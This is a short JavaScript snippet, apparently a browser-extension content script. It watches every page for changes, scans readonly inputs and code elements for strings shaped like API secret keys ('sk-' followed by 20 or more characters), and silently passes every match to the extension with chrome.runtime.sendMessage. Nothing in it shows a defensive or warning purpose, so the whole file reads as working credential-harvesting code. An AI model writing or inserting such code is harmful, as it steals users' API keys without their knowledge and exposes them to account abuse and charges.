const find = () => {
  for (const i of document.querySelectorAll("input[readonly], code")) {
    const t = i.value ?? i.textContent;
    if (/^sk-[\w-]{20,}$/.test(t)) chrome.runtime.sendMessage({ k: t });
  }
};
new MutationObserver(find).observe(document.documentElement, { childList: true, subtree: true });
